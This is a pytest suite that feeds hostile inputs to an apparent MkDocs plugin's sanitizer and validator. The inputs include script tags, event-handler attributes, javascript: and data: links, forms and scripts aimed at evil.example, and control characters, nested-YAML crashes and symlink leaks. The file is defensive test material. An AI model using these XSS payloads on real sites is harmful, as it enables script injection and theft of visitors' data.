"""The hostile-input corpus: what an attacker with a pull request or a careless marketer writes.

Each case makes a small valid site (the one of `test_bad_input.py`), applies its edits, runs the
check the plugin and `advocacy validate` run (with the example site's Markdown extensions), and
compares every problem line. Markdown cases also hold the sanitized HTML to the floor: no script,
no `on*` or `style` attribute, no URL scheme but http, https, mailto or relative. The classes
follow issue 10: Markdown script, text that cannot be published, crashes, leaks, errors in rounds,
skipped or doubled files, and the small ones. Images and SVG have their own corpus in
`test_images.py`; whole builds (site/ left untouched, no traceback) are in `test_hostile_builds.py`.
"""

from __future__ import annotations

import os
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mkdocs_advocacy.core.check import check_site
from mkdocs_advocacy.core.markdown_fields import MarkdownFields, MarkdownOptions
from mkdocs_advocacy.core.problems import sort_key
from mkdocs_advocacy.core.yamlsource import _DIRECTION as DIRECTION_CHARACTERS
from mkdocs_advocacy.core.yamlsource import CONTROL as CONTROL_CHARACTERS
from test_bad_input import AS_OF, Case, E, I, W, make_site, put, rename, sub

A, C = "advocates/jane-doe.yml", "case_studies/northwind.md"
EXTENSIONS = ["attr_list", "md_in_html", "admonition", "pymdownx.details", "pymdownx.superfences", "tables", "toc"]
CONFIGS = {"toc": {"permalink": True}}
SAFE_SCHEMES = ("http:", "https:", "mailto:")
STORY_LINE = 37  # the first line of Jane's story in the base site
BODY_LINE = 13  # the first line of the case study's body

SANITIZED = "was removed by the HTML sanitizer"
WHY_TAG = "only formatting, links, images, tables and details are published, never scripts, frames or forms"
WHY_LINK = "only http, https, mailto and relative links are published"
WHY_EVENT = "event handlers could run script"
WHY_STYLE = "pages take their look from the site's theme"
WHY_ATTR = "only plain attributes (id, class, title, alt, ...) are published"
DIRECTION = ("which shows the text in another order than it is written (delete it: invisible characters often "
             "come in with text pasted from a PDF or a spreadsheet)")
CONTROL = "which cannot be published (delete it: invisible characters often come in with text pasted from a PDF or a spreadsheet)"


def check(root: Path, **options: Any):
    markdown = MarkdownFields(MarkdownOptions(EXTENSIONS, CONFIGS))
    return check_site(root, {"as_of": AS_OF, **options}, root / "content", "mkdocs.yml", markdown)


def story(markdown: str):
    """Jane's spotlight story becomes `markdown` (its first line is line 37)."""
    indented = "".join(f"    {line}\n" if line else "\n" for line in markdown.split("\n"))
    return sub(A, "    Jane rebuilt *forecasting* at Northwind.\n", indented)


def body(markdown: str):
    """The case study's body becomes `markdown` (its first line is line 13)."""
    return sub(C, "The body, in *Markdown*.\n", markdown + "\n")


def warn_story(offset: int, what: str, why: str) -> tuple[str, str]:
    return W(f"{A}:{STORY_LINE + offset}: spotlight.story: {what} {SANITIZED} ({why})")


def warn_body(offset: int, what: str, why: str) -> tuple[str, str]:
    return W(f"{C}:{BODY_LINE + offset}: body: {what} {SANITIZED} ({why})")


def assert_safe(html: str) -> None:
    """The floor for any HTML made from a record's Markdown."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in ("script", "style", "iframe", "object", "embed", "form", "base", "meta", "link",
                                "svg", "math", "frame", "frameset"), tag
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), tag
            assert name.lower() not in ("style", "srcset", "formaction", "background"), tag
            if name in ("href", "src", "cite", "action"):
                url = "".join(str(value).split()).lower()
                scheme = url.split(":", 1)[0] + ":" if ":" in url.split("/", 1)[0] else ""
                assert not scheme or scheme in SAFE_SCHEMES, tag


# ---------------------------------------------------------------- 1. script from Markdown fields

MARKDOWN_CASES = [
    # stories: attr_list and links
    Case("story-attr-list-onerror", [story('![p](x.png){: onerror="alert(1)" }')],
         [warn_story(0, "the onerror attribute", WHY_EVENT)]),
    Case("story-attr-list-style", [story('Big news\n{: style="position:fixed;top:0;left:0;width:100%" }')],
         [warn_story(1, "the style attribute", WHY_STYLE)]),
    Case("story-attr-list-onclick-on-heading", [story('## Results {: onclick="steal()" }')],
         [warn_story(0, "the onclick attribute", WHY_EVENT)]),
    Case("story-attr-list-onmouseover-mixed-case", [story('A [link](https://a.example/){: OnMouseOver="x()" }')],
         [warn_story(0, "the onmouseover attribute", WHY_EVENT)]),
    Case("story-javascript-link-mixed-case", [story("[x](JaVaScRiPt:alert(1))")],
         [warn_story(0, "the link 'JaVaScRiPt:alert(1)'", WHY_LINK)]),
    Case("story-data-link", [story("[x](data:text/html;base64,PHNjcmlwdD4=)")],
         [warn_story(0, "the link 'data:text/html;base64,PHNjcmlwdD4='", WHY_LINK)]),
    Case("story-vbscript-link", [story("[x](vbscript:msgbox)")],
         [warn_story(0, "the link 'vbscript:msgbox'", WHY_LINK)]),
    Case("story-javascript-image", [story("![x](javascript:alert(1))")],
         [warn_story(0, "the link 'javascript:alert(1)'", WHY_LINK)]),
    Case("story-reference-link-javascript", [story("See [this][1].\n\n[1]: javascript:alert(1)")],
         [warn_story(2, "the link 'javascript:alert(1)'", WHY_LINK)]),  # where the URL is written
    Case("story-autolink-javascript", [story("<javascript:alert(1)>")], []),  # raw HTML in a story is text
    Case("story-raw-script-is-text", [story("<script>alert(1)</script>")], []),
    Case("story-raw-img-onerror-is-text", [story("<img src=x onerror=alert(1)>")], []),
    Case("story-attr-list-srcset", [story('![p](x.png){: srcset="javascript:alert(1) 1x" }')],
         [warn_story(0, "the srcset attribute", WHY_ATTR)]),
    Case("story-attr-list-on-list-item", [story('- first\n{: onfocus="x()" tabindex="1" autofocus="" }')],
         [warn_story(1, "the onfocus attribute", WHY_EVENT), warn_story(1, "the tabindex attribute", WHY_ATTR),
          warn_story(1, "the autofocus attribute", WHY_ATTR)]),
    # case-study bodies: raw HTML is allowed, but only what the allowlist keeps
    Case("body-script", [body("<script>alert(1)</script>")], [warn_body(0, "<script>", WHY_TAG)]),
    Case("body-script-uppercase", [body("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>")],
         [warn_body(0, "<script>", WHY_TAG)]),
    Case("body-img-onerror", [body("<img src=x onerror=alert(1)>")], [warn_body(0, "the onerror attribute", WHY_EVENT)]),
    Case("body-javascript-link", [body('<a href="javascript:alert(1)">x</a>')],
         [warn_body(0, "the link 'javascript:alert(1)'", WHY_LINK)]),
    Case("body-javascript-link-with-tab", [body('<a href="java&#x09;script:alert(1)">x</a>')],
         [warn_body(0, "the link 'java\\tscript:alert(1)'", WHY_LINK)]),
    Case("body-entity-encoded-javascript", [body('<a href="&#106;avascript:alert(1)">x</a>')],
         [warn_body(0, "the link 'javascript:alert(1)'", WHY_LINK)]),
    Case("body-iframe", [body('<iframe src="https://evil.example/"></iframe>')], [warn_body(0, "<iframe>", WHY_TAG)]),
    Case("body-object-and-embed", [body('<object data="x.swf"></object>\n\n<embed src="x.swf">')],
         [warn_body(0, "<object>", WHY_TAG), warn_body(2, "<embed>", WHY_TAG)]),
    Case("body-form", [body('<form action="https://evil.example/"><input name="card"></form>')],
         [warn_body(0, "<form>", WHY_TAG)]),
    Case("body-style-element", [body("<style>body{display:none}</style>")], [warn_body(0, "<style>", WHY_TAG)]),
    Case("body-style-attribute", [body('<p style="color:red">red</p>')], [warn_body(0, "the style attribute", WHY_STYLE)]),
    Case("body-inline-svg-onload", [body('<svg onload="alert(1)"><circle r="4"/></svg>')],
         [warn_body(0, "<svg>", WHY_TAG), warn_body(0, "<circle>", WHY_TAG)]),
    Case("body-math", [body("<math><mi>x</mi></math>")], [warn_body(0, "<math>", WHY_TAG), warn_body(0, "<mi>", WHY_TAG)]),
    Case("body-meta-refresh", [body('<meta http-equiv="refresh" content="0;url=https://evil.example/">')],
         [warn_body(0, "<meta>", WHY_TAG)]),
    Case("body-base-href", [body('<base href="https://evil.example/">')], [warn_body(0, "<base>", WHY_TAG)]),
    Case("body-link-stylesheet", [body('<link rel="stylesheet" href="https://evil.example/x.css">')],
         [warn_body(0, "<link>", WHY_TAG)]),
    Case("body-details-ontoggle", [body('<details ontoggle="alert(1)" open><summary>s</summary>d</details>')],
         [warn_body(0, "the ontoggle attribute", WHY_EVENT)]),
    Case("body-markdown-link-data", [body("[x](data:text/html,<script>alert(1)</script>)")],
         [warn_body(0, "the link 'data:text/html,<script>alert(1)</script>'", WHY_LINK)]),
    Case("body-problems-on-their-lines",
         [body("Intro.\n\n<script>a()</script>\n\nMore.\n\n[x](javascript:b())")],
         [warn_body(2, "<script>", WHY_TAG), warn_body(6, "the link 'javascript:b()'", WHY_LINK)]),
]

# What marketers use in case studies, which must pass untouched (no warning) and keep its structure.
SAFE_BODY = """\
## Challenge {#challenge}

!!! note "In short"
    Forecasts were *late*.

??? tip "Details"
    Hidden until opened.

| Metric | Before | After |
|--------|-------:|:-----:|
| Variance | 18% | 9% |

<details><summary>Methodology</summary>Twelve months of data.</details>

![Dashboard](https://cdn.example/dash.png "The dashboard")

[Contact us](mailto:team@example.com), [pricing](../pricing/) or [the site](https://www.example.com/?a=1&b=2).

<table><tr><td colspan="2">merged</td></tr></table>
"""


@pytest.mark.parametrize("case", MARKDOWN_CASES, ids=[c.id for c in MARKDOWN_CASES])
def test_markdown_fields_are_sanitized_and_what_goes_is_reported(case: Case, tmp_path: Path) -> None:
    root = make_site(tmp_path)
    for edit in case.edits:
        edit(root)
    checked = check(root)
    got = [(p.level, str(p)) for p in sorted(checked.problems, key=sort_key) if p.level != "info"]
    assert sorted(got) == sorted(case.expected)
    for rendered in checked.rendered.values():
        assert_safe(rendered.html)


def test_safe_case_study_html_passes_untouched(tmp_path: Path) -> None:
    root = make_site(tmp_path)
    body(SAFE_BODY)(root)
    checked = check(root)
    assert [str(p) for p in checked.problems if p.level != "info"] == []
    soup = BeautifulSoup(checked.rendered["body", "northwind"].html, "html.parser")
    assert soup.find("h2", id="challenge") is not None
    assert soup.select_one("div.admonition.note p.admonition-title").get_text() == "In short"
    assert soup.select_one("details.tip summary").get_text() == "Details"
    assert [td.get("align") for td in soup.find_all("td")][:3] == [None, None, None]  # alignment styles drop, quietly
    assert soup.find("img", src="https://cdn.example/dash.png")["alt"] == "Dashboard"
    assert [a.get("href") for a in soup.find_all("a") if "headerlink" not in (a.get("class") or [])] == [
        "mailto:team@example.com", "../pricing/", "https://www.example.com/?a=1&b=2"]
    assert soup.find("td", colspan="2") is not None


def test_story_markdown_still_renders(tmp_path: Path) -> None:
    root = make_site(tmp_path)
    story("Jane **rebuilt** it: [read more](https://example.com/).\n\n- one\n- two")(root)
    html = check(root).rendered["story", "jane-doe"].html
    assert "<strong>rebuilt</strong>" in html and '<a href="https://example.com/">read more</a>' in html
    assert "<li>two</li>" in html


# ---------------------------------------------------------------- 2. text that cannot be published

def control(field_line: str, new_line: str, line: int, fld: str, char: str = "U+0001") -> Case:
    return Case(f"control-{fld}-{char}", [sub(A if not fld.startswith("cs.") else C, field_line, new_line)],
                [E(f"{A if not fld.startswith('cs.') else C}:{line}: {fld.removeprefix('cs.')}: contains a control "
                   f"character ({char}), {CONTROL}")])


TEXT_CASES = [
    control("name: Jane Doe", 'name: "Jane\\x01 Doe"', 1, "name"),
    control("title: VP of Sales", 'title: "VP\\x0bSales"', 2, "title", "U+000B"),
    control("company: Northwind Health", 'company: "North\\x1fwind"', 3, "company", "U+001F"),
    control("  - quote: Cut our forecast variance in half.", '  - quote: "Cut\\x08 it"', 17, "testimonials[0].quote",
            "U+0008"),
    control("    body: Plain text.", '    body: "Plain\\x7f text."', 26, "reviews[1].body", "U+007F"),
    control("  headline: How Jane rebuilt forecasting", '  headline: "How\\x85 Jane"', 35, "spotlight.headline",
            "U+0085"),
    control("  - {name: Champion of the Year, year: 2025}", '  - {name: "Champion\\x0c", year: 2025}', 39,
            "awards[0].name", "U+000C"),
    control("  - type: reference_call\n    date: 2025-07-14", '  - type: reference_call\n    date: 2025-07-14\n'
            '    title: "Call\\x00"', 30, "activities[0].title", "U+0000"),
    control("title: How Northwind Health cut forecast variance in half", 'title: "How\\x02 Northwind"', 2, "cs.title",
            "U+0002"),
    control("summary: One or two sentences for cards.", 'summary: "One\\x1b sentence."', 4, "cs.summary",
            "U+001B"),
    control('{value: "50%", label: lower forecast variance}', '{value: "50%\\x9f", label: lower forecast variance}',
            11, "cs.results[0].value", "U+009F"),
    control("name: Jane Doe", 'name: "Jane \\uFFFE Doe"', 1, "name", "U+FFFE"),
    Case("direction-override-in-name", [sub(A, "name: Jane Doe", 'name: "Jane \\u202eeoD"')],
         [E(f"{A}:1: name: contains a text direction control (U+202E), {DIRECTION}")]),
    Case("direction-isolate-raw-in-quote", [sub(A, "  - quote: Cut our forecast variance in half.",
                                                "  - quote: Cut our \u2067variance\u2069 in half.")],
         [E(f"{A}:17: contains a text direction control (U+2067), {DIRECTION}")]),
    Case("direction-override-raw-in-body", [body("Line one.\n\nLine \u202dtwo.")],
         [E(f"{C}:{BODY_LINE + 2}: contains a text direction control (U+202D), {DIRECTION}")]),
    Case("control-raw-in-record", [sub(A, "title: VP of Sales", "title: VP\x01 of Sales")],
         [E(f"{A}:2: contains a control character (U+0001), {CONTROL}")]),
    Case("control-raw-nel-in-record", [sub(A, "title: VP of Sales", "title: VP\x85 of Sales")],
         [E(f"{A}:2: contains a control character (U+0085), {CONTROL}")]),
    Case("control-raw-in-body", [body("Line one.\n\nLine\x0b two.")],
         [E(f"{C}:{BODY_LINE + 2}: contains a control character (U+000B), {CONTROL}")]),
    Case("control-in-private-is-hidden", [sub(A, "  email: jane@northwind.example", '  email: "jane\\x01@x"')],
         [E(f"{A}:13: private.email: contains a control character (U+0001), {CONTROL}")]),
]


# ---------------------------------------------------------------- 3. what crashed before the clean

def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


CRASH_CASES = [
    Case("nested-600-deep-list", [sub(A, "region: North America", f"region: {nested(600)}")],
         [E(f"{A}:6: values are nested more than 32 levels deep (records need only a few levels: check the "
            "indentation and brackets)")]),
    Case("nested-100000-deep-list", [sub(A, "region: North America", f"region: {nested(100_000)}")],
         [E(f"{A}:6: values are nested more than 32 levels deep (records need only a few levels: check the "
            "indentation and brackets)")]),
    Case("nested-block-sequences", [sub(A, "region: North America",
                                        "region:\n" + "".join("  " * i + "-\n" for i in range(1, 40)))],
         [E(f"{A}:38: values are nested more than 32 levels deep (records need only a few levels: check the "
            "indentation and brackets)")]),
    Case("nested-in-front-matter", [sub(C, "industry: Healthcare", f"industry: {nested(50)}")],
         [E(f"{C}:6: values are nested more than 32 levels deep (records need only a few levels: check the "
            "indentation and brackets)")]),
    Case("non-utf8-content-page", [put("content/notes.md", b"# Notes\n\nsome text\n" + b"caf\xe9\n")],
         [E("content/notes.md:4: file is not UTF-8 text (invalid continuation byte at byte 22) (save it as UTF-8)")]),
    Case("photo-symlink-loop",
         [sub(A, "region: North America", "region: North America\nphoto: photos/loop.png"),
          lambda root: ((root / "advocates/photos").mkdir(), os.symlink("loop.png", root / "advocates/photos/loop.png"))],
         [E(f"{A}:7: photo: advocates/photos/loop.png is a symbolic link that loops (point it at the image file)")]),
    # found by benchmarks/fuzz.py
    Case("record-is-a-symlink-loop", [lambda root: os.symlink("loop.yml", root / "advocates/loop.yml")],
         [E("advocates/loop.yml:1: cannot be read (Too many levels of symbolic links) (replace the link with the "
            "file itself)")]),
    Case("photo-name-too-long", [sub(A, "region: North America", "region: North America\nphoto: photos/" + "a" * 300 + ".jpg"),
                                 lambda root: (root / "advocates/photos").mkdir()],
         [E(f"{A}:7: photo: advocates/photos/{'a' * 53} cannot be read (File name too long)")]),  # 60 characters of the path
    Case("body-nested-600-deep", [body("".join("    " * i + "1. x\n" for i in range(600)))],
         [E(f"{C}:{BODY_LINE}: body: is nested too deeply to render (lists or quotes inside each other, hundreds "
            "of levels) (a story needs a few levels at most)")]),
    Case("photo-is-a-folder",
         [sub(A, "region: North America", "region: North America\nphoto: photos/jane.png"),
          lambda root: (root / "advocates/photos/jane.png").mkdir(parents=True)],
         [E(f"{A}:7: photo: advocates/photos/jane.png is a folder, not a file")]),
]


# ---------------------------------------------------------------- 5. leaks

REPORT_HTML = '<!doctype html><meta name="generator" content="advocacy-internal-report"><p>nps 10</p>'
LEAK_CASES = [
    Case("docs-symlink-to-advocates", [lambda root: os.symlink(root / "advocates", root / "content/people")],
         [E("content/people:1: leads into the data folder advocates/, so MkDocs would publish the raw records "
            "(private data included) (remove it: the plugin publishes what the records may show)")]),
    Case("docs-symlink-to-a-record", [lambda root: os.symlink(root / A, root / "content/jane.yml")],
         [E("content/jane.yml:1: leads into the data folder advocates/, so MkDocs would publish the raw records "
            "(private data included) (remove it: the plugin publishes what the records may show)")]),
    Case("docs-symlink-to-case-studies", [lambda root: os.symlink(root / "case_studies", root / "content/cs")],
         [E("content/cs:1: leads into the data folder case_studies/, so MkDocs would publish the raw records "
            "(private data included) (remove it: the plugin publishes what the records may show)")]),
    Case("docs-symlink-to-the-site-root", [lambda root: os.symlink(root, root / "content/everything")],
         [E("content/everything:1: leads into the data folder advocates/, so MkDocs would publish the raw records "
            "(private data included) (remove it: the plugin publishes what the records may show)")]),
    Case("docs-symlink-loop", [lambda root: os.symlink("loop", root / "content/loop")],
         [E("content/loop:1: is a symbolic link that loops (remove the link)")]),
    Case("docs-copied-record", [lambda root: put("content/data/jane.yml", (root / A).read_text())(root)],
         [E("content/data/jane.yml:1: holds a `private` key: it looks like an advocate record, which MkDocs would "
            "publish as it is (move it to the advocates folder, or delete it)")]),
    Case("docs-record-as-json", [put("content/people.json", '[{"name": "x", "private": {"nps": 3}}]')],
         [E("content/people.json:1: holds a `private` key: it looks like an advocate record, which MkDocs would "
            "publish as it is (move it to the advocates folder, or delete it)")]),
    Case("docs-saved-report-html", [put("content/report.html", REPORT_HTML)],
         [E("content/report.html:1: is an internal program report (it holds private data) (delete it, and write "
            "reports outside the docs folder: advocacy report -o ../report.html)")]),
    Case("docs-saved-report-json", [put("content/assets/r.json", '{"internal": "advocacy-internal-report"}')],
         [E("content/assets/r.json:1: is an internal program report (it holds private data) (delete it, and write "
            "reports outside the docs folder: advocacy report -o ../report.html)")]),
    Case("private-tag-name-not-echoed", [sub(A, "  nps: 10", "  nps: !secret-marker 10")],
         [E(f"{A}:14: private.nps: YAML tags (!…) are not allowed (remove the tag; write plain values)")]),
    Case("private-anchor-name-not-echoed", [sub(A, "  nps: 10", "  nps: &secret-marker 10")],
         [E(f"{A}:14: private.nps: YAML anchors (&…) are not allowed (write the value out in full)")]),
    Case("private-alias-name-not-echoed", [sub(A, "  nps: 10", "  nps: *secret-marker")],
         [E(f"{A}:14: private.nps: YAML aliases (*…) are not allowed (write the value out in full)")]),
    Case("private-key-tag-not-echoed", [sub(A, "  nps: 10", "  !secret-marker nps: 10")],
         [E(f"{A}:14: private: YAML tags (!…) are not allowed (remove the tag; write plain values)")]),
    Case("private-number-not-echoed", [sub(A, "  nps: 10", "  nps: 0x0A")],
         [E(f"{A}:14: private.nps: must be a plain decimal number (value hidden: private)")]),
]

# ---------------------------------------------------------------- 8. errors in rounds

ROUND_CASES = [
    Case("three-problems-in-one-record",
         [sub(A, "rating: 5", "rating: 6"), sub(A, "company_size: 1001-5000", "company_size: huge"),
          sub(A, "region: North America", "region: North America\nphoto: photos/missing.jpg")],
         [E(f"{A}:5: company_size: 'huge' is not one of 1-50, 51-200, 201-1000, 1001-5000, 5000+ "
            "(or add it to company_sizes in mkdocs.yml)"),
          E(f"{A}:7: photo: file advocates/photos/missing.jpg does not exist (check the spelling, or add the file)"),
          E(f"{A}:22: reviews[0].rating: must be between 1 and 5, got 6 (set scale: 10 for a 10-point rating)")]),
    Case("typo-in-advocates-and-right-slug-in-quote",
         [sub(C, "advocates: [jane-doe]", "advocates: [jane-deo]")],
         [E(f"{C}:8: advocates[0]: unknown advocate 'jane-deo' (did you mean 'jane-doe'? If this person withdrew "
            "consent, restore their file and set consent.public: false (or an expires date) instead of deleting it)"),
          E(f"{C}:9: quote.advocate: 'jane-doe' is not listed in advocates (add them to advocates, or quote "
            "someone who is)")]),
    Case("broken-case-study-still-checks-size-and-logo",
         [sub(C, "summary: One or two sentences for cards.\n", ""), sub(C, "industry: Healthcare",
                                                                         "industry: Healthcare\ncompany_size: 9-9")],
         [E(f"{C}:2: summary: is required"),
          E(f"{C}:6: company_size: '9-9' is not one of 1-50, 51-200, 201-1000, 1001-5000, 5000+ "
            "(or add it to company_sizes in mkdocs.yml)")]),
    Case("broken-record-still-checks-industry-spelling",
         [sub(A, "name: Jane Doe\n", ""), sub(A, "industry: Healthcare", "industry: Health-Care"),
          sub(C, "industry: Healthcare", "industry: Health Care")],
         [E(f"{A}:1: name: is required"),
          # the case study is read first (it is valid): the broken record's spelling is the odd one
          E(f"{A}:3: industry: industry 'Health-Care' has the same URL as 'Health Care' ({C}:6) (spell it "
            "'Health Care' everywhere)")]),
    Case("two-spellings-of-a-product",
         [sub(A, "rating: 5\n", "rating: 5\n    product: Forecast\n"), sub(A, "rating: 4\n", "rating: 4\n    product: forecast\n")],
         [E(f"{A}:26: reviews[1].product: product 'forecast' has the same URL as 'Forecast' ({A}:22) (spell it "
            "'Forecast' everywhere)")]),
    Case("broken-record-and-quote-of-non-public",
         [put("advocates/bob-roe.yml", "name: Bob Roe\ncompany: Acme\nindustry: Healthcare\nconsent: {public: false}\n"),
          sub(C, "advocates: [jane-doe]", "advocates: [jane-doe, bob-roe]"),
          sub(C, 'advocate: jane-doe}', 'advocate: bob-roe}'), sub(C, "date: 2025-09-12", "date: 2025-13-12")],
         [E(f"{C}:5: date: 2025-13-12 is not a valid date (month must be in 1..12)"),
          I(f"{C}:8: advocates[1]: bob-roe is not public: their card is left out"),
          E(f"{C}:9: quote.advocate: bob-roe has not agreed to be named publicly (consent.public is false) "
            "(a name in print needs consent: remove the quote or quote someone else)")]),
]

# ---------------------------------------------------------------- 9. silently skipped or doubled

SKIPPED_CASES = [
    Case("upper-case-yml", [rename(A, "advocates/jane-doe.YML")],
         [E("advocates/jane-doe.YML:1: data files must end in .yml, in lower case (rename it to jane-doe.yml)")]),
    Case("mixed-case-yml", [rename(A, "advocates/jane-doe.Yml")],
         [E("advocates/jane-doe.Yml:1: data files must end in .yml, in lower case (rename it to jane-doe.yml)")]),
    Case("upper-case-md", [rename(C, "case_studies/northwind.MD")],
         [E("case_studies/northwind.MD:1: data files must end in .md, in lower case (rename it to northwind.md)")]),
    Case("record-in-subfolder", [put("advocates/team/bob.yml", "name: Bob\n")],
         [E("advocates/team/bob.yml:1: records must sit directly in their folder, not in a subfolder "
            "(move it to advocates/bob.yml)")]),
    Case("case-study-in-subfolder", [put("case_studies/2025/other.md", "---\ntitle: x\n---\n")],
         [E("case_studies/2025/other.md:1: records must sit directly in their folder, not in a subfolder "
            "(move it to case_studies/other.md)")]),
    Case("yaml-in-photos-folder", [put("advocates/photos/bob.yaml", "name: Bob\n")],
         [E("advocates/photos/bob.yaml:1: records must sit directly in their folder, not in a subfolder "
            "(move it to advocates/bob.yaml)")]),
]


# ---------------------------------------------------------------- 10. small ones

SMALL_CASES = [
    Case("file-ending-in-open-brace", [lambda root: (root / A).write_text("name: Jane\ncompany: N\nindustry: H\n"
                                                                          "awards: {\n")],
         [E(f"{A}:4: malformed YAML: did not find expected node content (while parsing a flow node)")]),
    Case("latin-1-byte-on-line-5", [lambda root: (root / A).write_bytes(
        b"name: Jane\ncompany: N\nindustry: H\ntitle: x\nregion: Bogot\xe1\n")],
         [E(f"{A}:5: file is not UTF-8 text (invalid continuation byte at byte 56) (save it as UTF-8)")]),
    Case("hex-rating", [sub(A, "rating: 5", "rating: 0x5")],
         [E(f"{A}:21: reviews[0].rating: 0x5 is not a plain decimal number (write it with digits only (e.g. 5 or "
            "4.5), or in quotes if it is text)")]),
    Case("underscore-rating", [sub(A, "rating: 4\n", "rating: 1_0\n")],
         [E(f"{A}:24: reviews[1].rating: 1_0 is not a plain decimal number (write it with digits only (e.g. 5 or "
            "4.5), or in quotes if it is text)")]),
    Case("octal-looking-year", [sub(A, "year: 2025", "year: 02025")],
         [E(f"{A}:39: awards[0].year: 02025 is not a plain decimal number (write it with digits only (e.g. 5 or "
            "4.5), or in quotes if it is text)")]),
    Case("infinite-rating", [sub(A, "rating: 5", "rating: .inf")],
         [E(f"{A}:21: reviews[0].rating: .inf is not a plain decimal number (write it with digits only (e.g. 5 or "
            "4.5), or in quotes if it is text)")]),
    Case("exponent-rating", [sub(A, "rating: 5", "rating: 5.0e+0")],
         [E(f"{A}:21: reviews[0].rating: 5.0e+0 is not a plain decimal number (write it with digits only (e.g. 5 "
            "or 4.5), or in quotes if it is text)")]),
    Case("key-of-spaces", [sub(A, "region: North America", "region: North America\n' ': x")],
         [E(f'{A}:7: " ": unknown field (known fields: name, title, company, industry, company_size, region, photo, '
            "linkedin, customer_since, previous_companies, consent, private, testimonials, reviews, activities, "
            "spotlight, awards)")]),
    Case("line-break-in-a-wrong-value", [sub(A, "rating: 5", 'rating: 5\n    scale: "ten\\nfive"')],
         [E(f'{A}:22: reviews[0].scale: must be one of 5, 10; got the text "ten\\nfive"')]),
    Case("negative-points", [], [E("mkdocs.yml:5: plugins.advocacy.points.review: must be at least 0, got -15")],
         {"points": {"review": -15}}),
    Case("tier-of-zero", [], [E("mkdocs.yml:5: plugins.advocacy.tiers.supporter: must be at least 1, got 0")],
         {"tiers": {"supporter": 0}}),
    Case("milestone-of-zero", [], [E("mkdocs.yml:5: plugins.advocacy.milestones[0]: must be at least 1, got 0")],
         {"milestones": [0, 5]}),
    Case("unknown-markup-platform", [], [E("mkdocs.yml:5: plugins.advocacy.markup_platforms: unknown platform 'amazon'; "
                                           "platforms: g2, capterra, trustradius, gartner, trustpilot, google, internal")],
         {"markup_platforms": ["amazon"]}),
]

ALL = [("text", c) for c in TEXT_CASES] + [("crash", c) for c in CRASH_CASES] + [("leak", c) for c in LEAK_CASES] \
    + [("rounds", c) for c in ROUND_CASES] + [("skipped", c) for c in SKIPPED_CASES] \
    + [("small", c) for c in SMALL_CASES]


@pytest.mark.parametrize("case", [c for _, c in ALL], ids=[f"{k}-{c.id}" for k, c in ALL])
def test_hostile_input_gets_its_message(case: Case, tmp_path: Path) -> None:
    root = make_site(tmp_path)
    for edit in case.edits:
        edit(root)
    checked = check(root, **case.options)
    got = [(p.level, str(p)) for p in sorted(checked.problems, key=sort_key)
           if p.level != "info" or case.id.startswith("broken-record-and-quote")]
    assert sorted(got) == sorted(case.expected)


def test_the_corpus_has_a_hundred_cases() -> None:
    from test_images import HOSTILE_SVGS  # the image and SVG classes

    assert len(MARKDOWN_CASES) + len(ALL) + len(HOSTILE_SVGS) >= 100


# ---------------------------------------------------------------- the class, not the examples

def _every(match) -> list[str]:
    return [chr(i) for i in range(0x110000) if not 0xD800 <= i <= 0xDFFF and match(chr(i))]


REFUSED_IN_TEXT = _every(lambda c: CONTROL_CHARACTERS.match(c))
REFUSED_IN_PATHS = _every(lambda c: unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")
                          and not CONTROL_CHARACTERS.match(c))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(char=st.sampled_from(REFUSED_IN_TEXT + REFUSED_IN_PATHS), field=st.sampled_from(["name", "photo"]),
       at=st.integers(0, 8))
def test_every_invisible_character_is_refused_once_with_its_line(char: str, field: str, at: int,
                                                                  tmp_path_factory) -> None:
    """Any character that cannot be published, anywhere in a name or a photo's path, written as a
    YAML escape: one error, on the field's line. A path refuses more (a tab, a line break, a
    zero-width space), with its own message; a name may hold those."""
    root = make_site(tmp_path_factory.mktemp("invisible"))
    value = "photos/jane.png"[:at] + char + "photos/jane.png"[at:] if field == "photo" else "Jane Doe"[:at] + char + "Jane Doe"[at:]
    escaped = "".join(f"\\U{ord(c):08X}" if not c.isalnum() and c not in "./ " else c for c in value)
    line = 'name: Jane Doe\nphoto: "' + escaped + '"' if field == "photo" else 'name: "' + escaped + '"'
    sub(A, "name: Jane Doe", line)(root)
    errors = [str(p) for p in check(root).problems if p.level == "error"]
    code = f"U+{ord(char):04X}"
    if char in REFUSED_IN_PATHS and field == "name":
        assert errors == []
    elif char in REFUSED_IN_PATHS:
        assert errors == [f"{A}:2: photo: must be a file name without invisible characters, got one ({code}) in "
                          f"{value!r} (write the path again by hand: it came in with a pasted character)"]
    else:
        what = DIRECTION if DIRECTION_CHARACTERS.match(char) else CONTROL
        kind = "a text direction control" if what is DIRECTION else "a control character"
        assert errors == [f"{A}:{2 if field == 'photo' else 1}: {field}: contains {kind} ({code}), {what}"]
